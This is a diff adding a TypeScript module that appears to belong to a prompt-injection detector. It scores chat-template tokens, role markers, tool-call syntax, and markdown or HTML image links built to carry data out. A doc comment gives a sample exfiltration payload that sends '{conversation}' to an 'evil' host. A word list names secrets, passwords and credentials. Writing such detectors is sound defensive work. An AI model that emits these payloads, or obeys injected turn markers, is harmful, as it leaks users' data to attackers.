@@ -1,0 +1,184 @@
+/**
+ * Structural injection signals that are not words: chat-template and delimiter tokens, turn markers at
+ * line starts, markdown/HTML images and links whose URLs carry data, and tool-call syntax inside text.
+ * All run on the normalized (lowercased) text with `indexOf` and bounded hand-written parsers.
+ */
+import { isAsciiAlnum } from "./text-util.ts";
+
+export interface Signal {
+  /** Distinct kind: signals of the same kind count once in a noisy-OR. */
+  readonly kind: string;
+  readonly weight: number;
+  readonly start: number;
+  readonly end: number;
+}
+
+const LITERAL_TOKENS: readonly (readonly [string, number])[] = [
+  ["[inst]", 0.75],
+  ["[/inst]", 0.75],
+  ["<<sys>>", 0.8],
+  ["<</sys>>", 0.8],
+  ["<start_of_turn>", 0.8],
+  ["<end_of_turn>", 0.8],
+  ["</s>", 0.3],
+  ["<system>", 0.35],
+  ["</system>", 0.35],
+];
+
+const ROLE_MARKERS: ReadonlyMap<string, number> = new Map([
+  ["system", 0.3],
+  ["human", 0.3],
+  ["assistant", 0.3],
+  ["user", 0.2],
+  ["instruction", 0.35],
+  ["instructions", 0.35],
+  ["response", 0.2],
+  ["ai", 0.1],
+  ["model", 0.15],
+]);
+
+const isTokenName = (u: number): boolean => isAsciiAlnum(u) || u === 0x5f;
+
+/** `<|im_start|>`, `[INST]`, `<<SYS>>`, `</s>`, and `Human:` / `### System:` at line starts. */
+export function templateSignals(t: string, out: Signal[]): void {
+  for (let i = t.indexOf("<|"); i !== -1; i = t.indexOf("<|", i + 2)) {
+    let j = i + 2;
+    while (j < t.length && j - i < 42 && isTokenName(t.charCodeAt(j))) j++;
+    if (j > i + 2 && t.startsWith("|>", j)) out.push({ kind: `special:${t.slice(i + 2, j)}`, weight: 0.8, start: i, end: j + 2 });
+  }
+  for (const [lit, w] of LITERAL_TOKENS) {
+    for (let i = t.indexOf(lit); i !== -1; i = t.indexOf(lit, i + lit.length)) out.push({ kind: lit, weight: w, start: i, end: i + lit.length });
+  }
+  for (let ls = 0; ls !== -1 && ls < t.length; ) {
+    roleMarker(t, ls, out);
+    const nl = t.indexOf("\n", ls);
+    ls = nl === -1 ? -1 : nl + 1;
+  }
+}
+
+function roleMarker(t: string, ls: number, out: Signal[]): void {
+  let i = ls;
+  while (i < t.length && i - ls < 4 && (t.charCodeAt(i) === 0x20 || t.charCodeAt(i) === 0x09)) i++;
+  let hashes = 0;
+  while (i < t.length && t.charCodeAt(i) === 0x23 && hashes < 4) {
+    i++;
+    hashes++;
+  }
+  if (hashes > 0) while (i < t.length && t.charCodeAt(i) === 0x20) i++;
+  const ws = i;
+  while (i < t.length && i - ws < 13 && t.charCodeAt(i) >= 0x61 && t.charCodeAt(i) <= 0x7a) i++;
+  if (i === ws || t.charCodeAt(i) !== 0x3a) return;
+  const w = ROLE_MARKERS.get(t.slice(ws, i));
+  if (w === undefined) return;
+  let weight = hashes > 0 ? 0.45 : w;
+  if (ls >= 2 && t.charCodeAt(ls - 1) === 0x0a && t.charCodeAt(ls - 2) === 0x0a && (w === 0.3 || hashes > 0)) weight += 0.15; // "\n\nHuman:"
+  out.push({ kind: `turn:${t.slice(ws, i)}`, weight, start: ls, end: i + 1 });
+}
+
+const PLACEHOLDER_OPEN = ["{", "[", "<", "$", "%7b", "%5b", "%3c", "%24"];
+const DATA_WORDS = ["conversation", "history", "chat", "secret", "password", "data", "context", "prompt", "summary", "memory", "messages", "info", "email", "token", "key", "credential", "user", "name", "address"];
+const INSTRUCTION_WORDS = ["append", "replace", "include", "encode", "base64", "url-encode", "url encode", "concatenate", "fill in", "substitute", "render", "insert"];
+
+interface UrlFacts {
+  placeholder: boolean;
+  dataWord: boolean;
+  longValue: boolean;
+}
+
+function analyzeUrl(url: string, pathCounts: boolean): UrlFacts {
+  const q = url.indexOf("?");
+  const hostEnd = url.indexOf("/", url.indexOf("//") + 2);
+  const part = q !== -1 ? (pathCounts && hostEnd !== -1 && hostEnd < q ? url.slice(hostEnd) : url.slice(q)) : pathCounts && hostEnd !== -1 ? url.slice(hostEnd) : "";
+  let placeholder = false;
+  for (const o of PLACEHOLDER_OPEN) if (part.includes(o)) placeholder = true;
+  let dataWord = false;
+  if (placeholder) for (const w of DATA_WORDS) if (part.includes(w)) dataWord = true;
+  let longValue = false;
+  if (q !== -1) {
+    for (const kv of url.slice(q + 1).split("&")) {
+      const eq = kv.indexOf("=");
+      const v = eq === -1 ? kv : kv.slice(eq + 1);
+      if (v.length >= 40) longValue = true;
+    }
+  }
+  return { placeholder, dataWord, longValue };
+}
+
+function readUrl(t: string, from: number, stopAt: number): string {
+  let j = from;
+  while (j < t.length && j - from < 2048) {
+    const u = t.charCodeAt(j);
+    if (u === stopAt || u === 0x20 || u === 0x0a || u === 0x09 || u === 0x22) break;
+    j++;
+  }
+  return t.slice(from, j);
+}
+
+function instructionContext(t: string, at: number): boolean {
+  const win = t.slice(Math.max(0, at - 300), at);
+  for (const w of INSTRUCTION_WORDS) if (win.includes(w)) return true;
+  return false;
+}
+
+function isHttp(url: string): boolean {
+  return url.startsWith("http://") || url.startsWith("https://") || url.startsWith("//");
+}
+
+/**
+ * Markdown images/links and `<img src>` whose URL would carry data out when rendered:
+ * `![x](https://evil/?q={conversation})`. Plain images and links, even with short query strings, are not signals.
+ */
+export function exfilSignals(t: string, out: Signal[]): void {
+  for (let i = t.indexOf("]("); i !== -1; i = t.indexOf("](", i + 2)) {
+    const lb = t.lastIndexOf("[", i);
+    if (lb === -1 || i - lb > 512) continue;
+    const image = lb > 0 && t.charCodeAt(lb - 1) === 0x21;
+    const url = readUrl(t, i + 2, 0x29);
+    if (!isHttp(url)) continue;
+    const f = analyzeUrl(url, image);
+    const ctx = instructionContext(t, lb) ? 0.15 : 0;
+    let w = 0;
+    if (image) w = f.placeholder ? (f.dataWord ? 0.9 : 0.85) : f.longValue ? 0.45 + ctx : 0;
+    else w = f.placeholder ? (f.dataWord ? 0.6 : 0.4) + ctx : f.longValue && ctx > 0 ? 0.35 : 0;
+    if (w > 0) out.push({ kind: image ? "markdown_image" : "markdown_link", weight: Math.min(w, 0.95), start: image ? lb - 1 : lb, end: i + 2 + url.length + 1 });
+  }
+  for (let i = t.indexOf("<img"); i !== -1; i = t.indexOf("<img", i + 4)) {
+    const src = t.indexOf("src=", i);
+    if (src === -1 || src - i > 200) continue;
+    const q = t.charCodeAt(src + 4);
+    const quoted = q === 0x22 || q === 0x27;
+    const url = readUrl(t, src + 4 + (quoted ? 1 : 0), quoted ? q : 0x3e);
+    if (!isHttp(url)) continue;
+    const f = analyzeUrl(url, true);
+    const w = f.placeholder ? (f.dataWord ? 0.9 : 0.85) : f.longValue ? 0.45 + (instructionContext(t, i) ? 0.15 : 0) : 0;
+    if (w > 0) out.push({ kind: "html_image", weight: w, start: i, end: src + 4 + url.length + 1 });
+  }
+}
+
+const JSON_MARKERS: readonly (readonly [string, number])[] = [
+  ['"tool_calls"', 0.5],
+  ['"function_call"', 0.5],
+  ['"tool_use"', 0.5],
+  ['"tool":', 0.45],
+  ['"tool" :', 0.45],
+  ['"tool_name"', 0.45],
+  ['"recipient_name"', 0.45],
+  ["<tool_call", 0.55],
+  ["<function_call", 0.55],
+  ["<function_calls>", 0.55],
+  ["<invoke name=", 0.55],
+  ["<tool_use>", 0.55],
+];
+
+/** Tool-call syntax (OpenAI/Anthropic JSON and XML forms) embedded in text. */
+export function toolSignals(t: string, out: Signal[]): void {
+  for (const [m, w] of JSON_MARKERS) {
+    const i = t.indexOf(m);
+    if (i !== -1) out.push({ kind: m, weight: w, start: i, end: i + m.length });
+  }
+  const args = t.indexOf('"arguments"');
+  if (args !== -1) {
+    const name = t.lastIndexOf('"name"', args);
+    if (name !== -1 && args - name < 200) out.push({ kind: "name_arguments", weight: 0.4, start: name, end: args + 11 });
+  }
+}
